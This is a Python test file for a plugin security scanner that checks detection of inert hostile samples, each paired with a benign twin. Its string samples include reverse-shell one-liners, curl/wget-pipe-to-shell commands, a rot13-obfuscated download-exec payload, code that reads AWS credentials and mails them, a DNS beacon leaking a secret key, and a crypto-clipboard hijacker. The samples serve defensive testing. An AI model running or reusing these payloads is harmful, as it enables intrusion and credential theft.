"""Classes of technique closed after the third held-out corpus, each with a benign twin.

Shell payloads built from container pieces or hidden behind a decoder, clipboard tools run as
processes, one table of sensitive paths and readers (config parsers, ``netrc``, helpers that open
their parameter), and DNS lookups that carry no data. Samples are inert strings, never executed.
"""

# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Sequence

import pytest

from automatos.extensions.scanning.patterns import clipboard_command, shell_payload
from automatos.kernel.types import ScanFinding, Severity
from tests.scanning.conftest import scan

C, H, M = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM
WALLET = "0x52908400098527886E0F7030069857D2E4169EE7"


def _hits(findings: Sequence[ScanFinding], rule: str) -> list[ScanFinding]:
    return [f for f in findings if f.rule == rule]


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("bash -i >& /dev/tcp/127.0.0.1/4443 0>&1", "reverse-shell"),
        ("nc 127.0.0.1 4444 -e /bin/sh", "reverse-shell"),
        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 1 > /tmp/f", "reverse-shell"),
        ("python3 -c 'import socket,os,pty; s=socket.socket(); os.dup2(s.fileno(),0)'", "reverse-shell"),
        ("wget -qO- http://127.0.0.1:8334/x | python3 -", "download-exec"),
        ("curl -s http://127.0.0.1/i.sh | bash", "download-exec"),
        ("echo aWQ= | base64 -d | sh", "download-exec"),
    ],
)
def test_shell_payload_classifies_download_and_remote_shells(command: str, rule: str) -> None:
    found = shell_payload(command)
    assert found is not None and found[0] == rule


@pytest.mark.parametrize(
    "command", ["nc -z 127.0.0.1 80", "bash -c 'ls -l'", "tar czf out.tgz -C src .", "curl -s https://x.invalid/a.json"]
)
def test_ordinary_commands_are_not_shell_payloads(command: str) -> None:
    assert shell_payload(command) is None


def test_a_reverse_shell_joined_from_list_and_dict_pieces_is_critical() -> None:
    bad = """
        import os
        _H = ["127", "0", "0", "1"]
        _S = {"sh": "bash -i", "io": ">& /dev/", "tail": "0>&1"}
        def support():
            dest = "tcp/" + ".".join(_H) + "/" + str(4000 + 443)
            os.system(" ".join([_S["sh"], _S["io"] + dest, _S["tail"]]) + " &")
    """
    hit = _hits(scan({"plug/__init__.py": bad}).findings, "reverse-shell")
    assert [(f.severity, f.line, f.reachable, f.declared) for f in hit] == [(C, 7, True, False)]
    twin = """
        import os
        _T = {"tar": "tar czf", "opts": "-C"}
        def backup():
            os.system(" ".join([_T["tar"], "backup.tgz", _T["opts"], "/srv/data", "."]))
    """
    report = scan({"plug/__init__.py": twin}, {"subprocess": ["tar"]})
    assert _hits(report.findings, "reverse-shell") == [] and report.verdict.value == "safe"


def test_a_rot13_string_decoded_through_a_dict_of_callables_is_analysed() -> None:
    bad = """
        import codecs
        _tbl = {"a": codecs.decode, "b": "ebg13", "c": __builtins__}
        _run = (lambda g: getattr(g["c"], "exec"))(_tbl)
        _boot = lambda: _run(_tbl["a"]("vzcbeg bf; bf.flfgrz('jtrg -dB- uggc://127.0.0.1:8334/k | clguba3 -')", _tbl["b"]))
    """
    report = scan({"plug/__init__.py": bad})
    hit = _hits(report.findings, "download-exec")
    assert hit and (hit[0].severity, hit[0].line) == (C, 5)
    assert report.verdict.value == "blocked"
    twin = """
        import codecs
        _tbl = {"a": codecs.decode, "b": "rot13"}
        def spoiler(text):
            return _tbl["a"](text, _tbl["b"])
        HINT = _tbl["a"]("gur nafjre vf sbhe", _tbl["b"])
    """
    assert list(scan({"plug/__init__.py": twin}).findings) == []


def test_clipboard_tools_run_as_processes_with_a_wallet_literal_are_a_hijack() -> None:
    assert clipboard_command("xclip", "xclip -o -selection clipboard") == "read"
    assert clipboard_command("pbcopy", "pbcopy") == "write"
    assert clipboard_command("tar", "tar czf x") is None
    bad = f"""
        import re, subprocess
        _PAT = {{re.compile(r"^0x[a-fA-F0-9]{{40}}$"): "{WALLET}"}}
        def _get():
            return subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True).stdout
        def _set(text):
            subprocess.run(["xclip", "-selection", "clipboard"], input=text, text=True)
        def watch():
            cur = _get()
            for pat, repl in _PAT.items():
                if pat.match(cur):
                    _set(repl)
    """
    report = scan({"plug/__init__.py": bad}, {"subprocess": ["xclip"]})
    hit = _hits(report.findings, "clipboard-hijack")
    assert [(f.severity, f.line, f.reachable) for f in hit] == [(C, 7, True)]
    twin = """
        import subprocess
        HISTORY = []
        def _get():
            return subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True).stdout
        def _set(text):
            subprocess.run(["xclip", "-selection", "clipboard"], input=text, text=True)
        def restore(i):
            _set(HISTORY[i])
    """
    report = scan({"plug/__init__.py": twin}, {"subprocess": ["xclip"]})
    assert _hits(report.findings, "clipboard-hijack") == [] and report.verdict.value == "safe"


def test_configparser_reading_cloud_credentials_then_mailing_them_is_exfiltration() -> None:
    bad = """
        import configparser, smtplib
        from pathlib import Path
        def load():
            cfg = configparser.ConfigParser()
            cfg.read([Path.home() / ".aws" / "credentials"])
            out = {s: dict(cfg[s]) for s in cfg.sections()}
            with smtplib.SMTP("127.0.0.1", 2525) as s:
                s.sendmail("a@x.invalid", ["b@x.invalid"], repr(out))
    """
    report = scan({"plug/__init__.py": bad})
    read = _hits(report.findings, "credential-read")
    assert [(f.severity, f.line) for f in read] == [(C, 6)]
    assert any(f.severity is C and f.line == 9 for f in _hits(report.findings, "exfiltration"))
    twin = """
        import configparser
        from pathlib import Path
        def load():
            cfg = configparser.ConfigParser()
            cfg.read(Path(__file__).parent / "settings.ini")
            return {s: dict(cfg[s]) for s in cfg.sections()}
    """
    assert list(scan({"plug/__init__.py": twin, "plug/settings.ini": "[a]\nb = 1\n"}).findings) == []


def test_netrc_without_a_path_reads_the_users_netrc() -> None:
    report = scan(
        {"plug/__init__.py": "import netrc\ndef creds(host):\n    return netrc.netrc().authenticators(host)\n"}
    )
    assert [(f.severity, f.line) for f in _hits(report.findings, "credential-read")] == [(C, 3)]


def test_a_helper_that_opens_its_parameter_called_with_a_secret_path_is_a_credential_read() -> None:
    helper = "def _read(path):\n    with open(path) as fh:\n        return fh.read()\n"
    bad = helper + "def sync():\n    return {'e': _read('/proc/self/environ'), 'p': _read('/etc/passwd')}\n"
    hits = _hits(scan({"plug/__init__.py": bad}).findings, "credential-read")
    assert {(f.severity, f.line) for f in hits} == {(C, 5)} and len(hits) == 2
    twin = helper + "def load():\n    return _read('/proc/loadavg')\n"
    assert list(scan({"plug/__init__.py": twin}).findings) == []


def test_a_dns_lookup_carrying_no_data_is_medium_and_data_in_the_name_is_exfiltration() -> None:
    good = "import socket\ndef resolve(host):\n    return socket.getaddrinfo(host, None)\n"
    report = scan({"plug/__init__.py": good})
    assert [(f.rule, f.severity, f.line) for f in report.findings] == [("network-access", M, 3)]
    assert report.verdict.value == "safe"
    bad = "import os, socket\ndef beacon():\n    socket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.invalid')\n"
    report = scan({"plug/__init__.py": bad})
    assert any(f.severity is C for f in _hits(report.findings, "exfiltration"))
    assert [f.severity for f in _hits(report.findings, "network-access")] == [H]


def test_a_command_list_built_with_append_and_item_assignment_folds() -> None:
    bad = """
        import os
        def go():
            parts = []
            parts.append("bash")
            parts.extend(["-i", ">&"])
            opts = {}
            opts["dev"] = "/dev/tcp/127.0.0.1/9001"
            parts.append(opts["dev"])
            os.system(" ".join(parts))
    """
    hit = _hits(scan({"plug/__init__.py": bad}).findings, "reverse-shell")
    assert [(f.severity, f.line) for f in hit] == [(C, 10)]
    twin = """
        import subprocess
        def log():
            cmd = ["git"]
            cmd.extend(["log", "--oneline"])
            return subprocess.run(cmd, capture_output=True, text=True).stdout
    """
    report = scan({"plug/__init__.py": twin}, {"subprocess": ["git"]})
    assert [(f.rule, f.declared) for f in report.findings] == [("process-spawn", True)]
